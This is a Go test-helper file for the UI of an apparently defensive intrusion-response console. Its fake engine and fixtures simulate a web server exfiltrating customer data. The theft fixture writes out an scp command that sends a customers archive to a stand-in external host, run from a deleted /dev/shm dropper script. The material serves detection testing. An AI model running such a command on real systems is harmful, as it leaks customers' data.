package ui

import (
	"context"
	"errors"
	"net/netip"
	"slices"
	"sync"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"interdict/detect"
	"interdict/playbooks"
	"interdict/respond"
	"interdict/sources"
)

// The world of these tests: a web server that sends customers' data out, a
// backup that ended, and whatever a test adds.

var noon = time.Date(2026, 11, 3, 3, 12, 45, 0, time.UTC)

type fakeEngine struct {
	mu         sync.Mutex
	changed    chan struct{}
	snap       detect.Snapshot
	closed     map[string]string
	exceptions []playbooks.KnownException
	closedOnes []*detect.Finding
	taken      map[string]string
	unkept     error
	said       []string
	inCase     string
}

func (e *fakeEngine) Changed() <-chan struct{} { return e.changed }

func (e *fakeEngine) Snapshot() *detect.Snapshot {
	e.mu.Lock()
	defer e.mu.Unlock()
	s := e.snap
	s.Findings = slices.Clone(e.snap.Findings)
	return &s
}

func (e *fakeEngine) Finding(id string) (*detect.Finding, bool) {
	for _, f := range e.Snapshot().Findings {
		if f.ID == id {
			return f, true
		}
	}
	return nil, false
}

func (e *fakeEngine) Close(a detect.Alert, reason string) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.closed[a.ID] = reason
	e.snap.Findings = slices.DeleteFunc(slices.Clone(e.snap.Findings), func(f *detect.Finding) bool { return f.ID == a.ID })
	e.snap.Closed++
	return e.unkept
}

func (e *fakeEngine) Ack(a detect.Alert) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if by := e.taken[a.ID]; by != "" && by != "ana" {
		return errors.New("somebody else has it: " + by)
	}
	e.taken[a.ID] = "ana"
	return nil
}

func (e *fakeEngine) Answer(a detect.Alert, question string, state playbooks.State, why string) error {
	e.said = append(e.said, question+" "+string(state)+" "+why)
	return e.unkept
}

func (e *fakeEngine) Note(a detect.Alert, text string) error {
	e.said = append(e.said, "note "+text)
	return e.unkept
}

func (e *fakeEngine) Taken(a detect.Alert) string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.taken[a.ID]
}

func (e *fakeEngine) InCase(detect.Alert) string { return e.inCase }

func (e *fakeEngine) put(findings ...*detect.Finding) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.snap.Findings, e.snap.Version = findings, e.snap.Version+1
}

type fakeAssessor func(*detect.Finding) *playbooks.Guide

func (a fakeAssessor) Assess(_ context.Context, f *detect.Finding) *playbooks.Guide { return a(f) }

type fakeHost struct{ identity respond.Identity }

func (h fakeHost) Name() string                                       { return "local" }
func (h fakeHost) Identity(context.Context) (respond.Identity, error) { return h.identity, nil }

// fakeAction plans what it was told to; changes are made by fakeChanges.
type fakeAction struct {
	target detect.Process
	kind   string
	plan   respond.Plan
	err    error
}

func (a *fakeAction) Kind() string { return a.kind }
func (a *fakeAction) Plan(context.Context, respond.Host) (respond.Plan, error) {
	return a.plan, a.err
}
func (a *fakeAction) Apply(context.Context, respond.Host, respond.Plan) (respond.Result, error) {
	return respond.Result{}, errors.New("not by the console")
}
func (a *fakeAction) Verify(context.Context, respond.Host, respond.Result) (respond.Verdict, error) {
	return respond.Verdict{State: respond.Holds, Summary: "looked again"}, nil
}
func (a *fakeAction) Undo(context.Context, respond.Host, respond.Result) (respond.Result, error) {
	return respond.Result{}, respond.ErrNoUndo
}

type fakeChanges struct {
	ran      []string
	result   respond.Result
	verdict  respond.Verdict
	err      error
	standing []respond.Standing
	gap      error
	entries  []respond.Entry
	op       respond.Operation
}

func (c *fakeChanges) Run(_ context.Context, a respond.Action, _ respond.Host, p respond.Plan) (respond.Result, respond.Verdict, error) {
	c.ran = append(c.ran, a.Kind()+": "+p.Title)
	return c.result, c.verdict, c.err
}

func (c *fakeChanges) RunUnjournaled(_ context.Context, typed string, a respond.Action, _ respond.Host, _ respond.Plan) (respond.Result, respond.Verdict, error) {
	c.ran = append(c.ran, a.Kind()+" unjournaled: "+typed)
	return c.result, c.verdict, nil
}

func (c *fakeChanges) Undo(_ context.Context, a respond.Action, _ respond.Host, op string, _ respond.Result) (respond.Result, error) {
	c.ran = append(c.ran, "undo "+op)
	return c.result, c.err
}

func (c *fakeChanges) Refused(_ context.Context, a respond.Action, _ respond.Host, err error) error {
	c.ran = append(c.ran, "refused: "+err.Error())
	return nil
}
func (c *fakeChanges) Standing(context.Context) ([]respond.Standing, error) { return c.standing, c.gap }
func (c *fakeChanges) Entries(_ context.Context, after int64, limit int) ([]respond.Entry, error) {
	var out []respond.Entry
	for _, e := range c.entries {
		if e.Seq > after && len(out) < limit {
			out = append(out, e)
		}
	}
	return out, nil
}
func (c *fakeChanges) Operation(context.Context, string) (respond.Operation, error) { return c.op, nil }

type fakeSource struct {
	name  string
	stats sources.Stats
}

func (s fakeSource) Name() string                            { return s.name }
func (s fakeSource) Run(context.Context, sources.Sink) error { return nil }
func (s fakeSource) Stats() sources.Stats                    { return s.stats }

// world is a console on the fakes.
type world struct {
	*Model
	t       *testing.T
	engine  *fakeEngine
	changes *fakeChanges
	act     *fakeAction
}

func newWorld(t *testing.T, w, h int, change ...func(*Config)) *world {
	t.Helper()
	e := &fakeEngine{changed: make(chan struct{}, 1), closed: map[string]string{}, taken: map[string]string{}}
	e.snap = detect.Snapshot{Judged: 3201, Since: noon.Add(-90 * time.Minute), Closed: 14, Findings: []*detect.Finding{theft(), backup()}}
	c := Config{
		Engine: e, Theme: "none", Now: func() time.Time { return noon }, Feed: NewFeed(),
		Assess:  fakeAssessor(guideOf),
		Sources: []sources.Source{fakeSource{name: "ebpf"}},
		Host: func(detect.Host) (respond.Host, error) {
			return fakeHost{respond.Identity{HostID: "h1", BootID: "b1"}}, nil
		},
	}
	for _, f := range change {
		f(&c)
	}
	out := &world{Model: newModel(t.Context(), c), t: t, engine: e, changes: &fakeChanges{}, act: &fakeAction{kind: "process.freeze", plan: freezePlan()}}
	out.Model.changes, out.Model.waits = out.changes, noWaits{}
	out.Model.action = func(_ Config, _ action, _ *detect.Finding, p detect.Process) respond.Action {
		out.act.target = p
		return out.act
	}
	out.send(tea.WindowSizeMsg{Width: w, Height: h})
	out.do(out.assess())
	return out
}

// send gives a message to the model and then every message that comes of it.
func (w *world) send(msg tea.Msg) {
	_, cmd := w.Update(msg)
	w.do(cmd)
}

func (w *world) do(cmd tea.Cmd) {
	if cmd == nil {
		return
	}
	switch msg := cmd().(type) {
	case tea.BatchMsg:
		for _, c := range msg {
			w.do(c)
		}
	case delivery, tea.WindowSizeMsg:
		w.send(msg)
	case tea.QuitMsg:
		w.said = "QUIT"
	}
}

// noWaits: what is waited for does not come by itself.
type noWaits struct{}

func (noWaits) after(time.Duration, tea.Msg) tea.Cmd { return nil }
func (noWaits) signal(context.Context, <-chan struct{}, time.Duration, tea.Msg) tea.Cmd {
	return nil
}

// press types keys by their names.
func (w *world) press(keys ...string) {
	for _, k := range keys {
		w.send(keyOf(k))
	}
}

var keyTypes = map[string]tea.KeyType{
	"enter": tea.KeyEnter, "esc": tea.KeyEsc, "tab": tea.KeyTab, "up": tea.KeyUp, "down": tea.KeyDown, "backspace": tea.KeyBackspace,
	"home": tea.KeyHome, "end": tea.KeyEnd, "pgup": tea.KeyPgUp, "pgdown": tea.KeyPgDown, "ctrl+c": tea.KeyCtrlC, "ctrl+u": tea.KeyCtrlU, "ctrl+t": tea.KeyCtrlT, "shift+tab": tea.KeyShiftTab, "left": tea.KeyLeft, "right": tea.KeyRight,
}

func keyOf(name string) tea.KeyMsg {
	if t, ok := keyTypes[name]; ok {
		return tea.KeyMsg{Type: t}
	}
	return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(name)}
}

func (w *world) write(s string) {
	for _, r := range s {
		w.send(keyOf(string(r)))
	}
}

// rest lets the moment without a key pass.
func (w *world) rest() {
	if d, ok := w.overlay.(*dialog); ok {
		w.send(arming{d, d.keys})
	}
}

func procOf(pid int, name, exe string) detect.Process {
	return detect.Process{EntityID: "e" + name, PID: pid, Start: int64(pid) * 1e9, Name: name, Executable: exe, User: "www-data", UserID: "33", LoginUID: -1, Session: -1}
}

func theft() *detect.Finding {
	scp := procOf(4121, "scp", "/usr/bin/scp")
	scp.CommandLine = "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/"
	scp.Container = "shop/web 7f3a"
	evil := procOf(4110, ".x.sh", "/dev/shm/.x.sh")
	evil.Deleted = true
	return &detect.Finding{
		Alert: detect.Alert{
			ID: "7Q2M4K9P", RuleID: "rare-tool", RuleName: "Rare file transfer tool", Severity: "high", Risk: 73, Count: 1,
			Raised: noon.Add(-12 * time.Second), First: noon.Add(-12 * time.Second), Last: noon.Add(-12 * time.Second),
			Host:    detect.Host{ID: "h1", BootID: "b1", Name: "web-1", OS: "Debian 12", Environment: "production"},
			Process: scp, Why: "scp started by .x.sh was seen 1 time in 14 d on 1 host, fewer than 5",
		},
		Also: []detect.Alert{{ID: "8XFILES0", RuleName: "Transfer of sensitive files"}},
		Transfer: &detect.Transfer{
			Direction: detect.Out, Tool: scp, Live: true, Rate: 3.1e6, Sent: 48_200_000, Spark: []int64{1, 4, 7, 9, 9, 9, 8, 9},
			Ancestors: []detect.Process{evil, procOf(4102, "sh", "/bin/dash"), procOf(912, "php-fpm", "/usr/sbin/php-fpm"), procOf(1, "systemd", "/lib/systemd/systemd")},
			Members:   []detect.Process{scp, procOf(4122, "ssh", "/usr/bin/ssh")},
			Peers:     []detect.Peer{{Addr: netip.MustParseAddr("203.0.113.9"), Port: 22, Sent: 48_200_000}},
			Files:     []detect.File{{Path: "/tmp/.c/customers.tar.gz", Size: 162_000_000, Sensitive: "customer data"}, {Path: "/srv/app/.env", Size: 900}},
			Started:   noon.Add(-12 * time.Second), Unseen: []string{"what TLS carried"},
		},
	}
}

func backup() *detect.Finding {
	rsync := procOf(811, "rsync", "/usr/bin/rsync")
	rsync.CommandLine, rsync.Ended, rsync.User = "rsync -a /var/lib/db 10.0.4.12::backup", noon.Add(-4*time.Minute), "backup"
	return &detect.Finding{
		Alert: detect.Alert{
			ID: "3B1TTZZ0", RuleID: "rare-tool", RuleName: "Rare file transfer tool", Severity: "medium", Risk: 47, Count: 2,
			Raised: noon.Add(-4 * time.Minute), First: noon.Add(-5 * time.Minute), Last: noon.Add(-4 * time.Minute),
			Host: detect.Host{ID: "h3", BootID: "b3", Name: "db-3", Environment: "production"}, Process: rsync, Why: "rsync was seen 2 times in 14 d",
		},
		Transfer: &detect.Transfer{
			Direction: detect.Out, Tool: rsync, Sent: 1_100_000_000, Ended: rsync.Ended,
			Ancestors: []detect.Process{procOf(810, "python3", "/usr/bin/python3"), procOf(700, "cron", "/usr/sbin/cron")},
			Peers:     []detect.Peer{{Addr: netip.MustParseAddr("10.0.4.12"), Port: 873, Sent: 1_100_000_000}},
		},
	}
}

func guideOf(f *detect.Finding) *playbooks.Guide {
	return &playbooks.Guide{
		AlertID: f.ID, Root: procOf(4110, ".x.sh", "/dev/shm/.x.sh"),
		Verdict: playbooks.Verdict{
			Word: playbooks.Theft, Sending: true,
			Against: []string{"parent .x.sh ran from /dev/shm, deleted", "destination never seen in 14 d (0 of 3 201 transfers)", "no timer, login or change window at 03:12"},
			Open:    []string{"announced by a user?"},
		},
		Answers: []playbooks.Answer{
			{Number: 1, ID: "command", Question: "Command line", State: playbooks.BAD, Why: "0 like it in 14 d; nearest: scp -q … deploy@10.0.4.12:in/ (db-3, 212 times)", Query: "FROM logs-endpoint.events.process-* | WHERE process.command_line == ?", Took: 12 * time.Millisecond,
				Evidence: []playbooks.Line{{Label: "command", Text: tool(f).CommandLine}, {Label: "near", Text: "212 on db-3"}, {Label: "near", Text: "3 on db-4"}}},
			{Number: 2, ID: "parent", Question: "Parent", State: playbooks.BAD, Why: "/dev/shm/.x.sh, deleted, written 03:11:58 by php-fpm; no package owns it", Took: 31 * time.Millisecond},
			{Number: 3, ID: "host", Question: "Host", State: playbooks.OK, Why: "web-1 · Debian 12 · 2 other alerts today"},
			{Number: 4, ID: "time", Question: "Time", State: playbooks.OPEN, Why: "03:12:33 (host 04:12) · no cron or timer within 2 min · logins could not be read"},
			{Number: 5, ID: "system", Question: "System", State: playbooks.OK, Why: "linux 6.1.0 x86_64, as the rule expects"},
		},
		Stop:  "F freezes 4 processes from .x.sh 4110 down: nothing more leaves but about 1 MB in the send queue; R resumes",
		Blind: []string{"never seen here: TLS content, internal-sftp"},
	}
}

func freezePlan() respond.Plan {
	return respond.Plan{
		Version: 1, Kind: "process.freeze", Host: "local", Title: "freeze 4 processes from .x.sh 4110 down",
		Lines:    []respond.Line{{Label: "Right host", Text: "yes: pid 4121 runs here (boot id, start, executable match)"}, {Label: "Tree", Text: "sh 4102 ─ .x.sh 4110 ─ scp 4121 ─ ssh 4122"}, {Label: "Keeps", Text: "php-fpm 912 keeps running"}},
		Warnings: []string{"about 1 MB queued in the kernel still leaves"}, Undo: "R resumes exactly these 4",
	}
}

func (e *fakeEngine) Exceptions() ([]playbooks.KnownException, error) { return e.exceptions, nil }

// Except hides what fits, as the engine does.
func (e *fakeEngine) Except(x detect.Exception) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	x.Created = noon
	e.exceptions = append(e.exceptions, playbooks.KnownException{Exception: x})
	e.snap.Findings = slices.DeleteFunc(slices.Clone(e.snap.Findings), func(f *detect.Finding) bool {
		if !x.Fits(f) {
			return false
		}
		known := *f
		known.Exception = &x
		e.snap.Hidden = append(e.snap.Hidden, &known)
		return true
	})
	return nil
}

func (e *fakeEngine) RenewException(_ string, until time.Time) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.exceptions[0].Expires = until
	return nil
}

func (e *fakeEngine) ClosedLike(x *detect.Exception, _ time.Time) (n playbooks.ClosedLike, err error) {
	for _, f := range e.closedOnes {
		n.Closed++
		if x.FitsFields(f.Fields()) {
			n.Hidden++
			if f.CloseReason == playbooks.TruePositive {
				n.Thefts++
			}
		}
	}
	return n, nil
}

func (e *fakeEngine) EndException(string) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.exceptions[0].EndedBy, e.exceptions[0].EndedAt = "bob", noon
	return nil
}
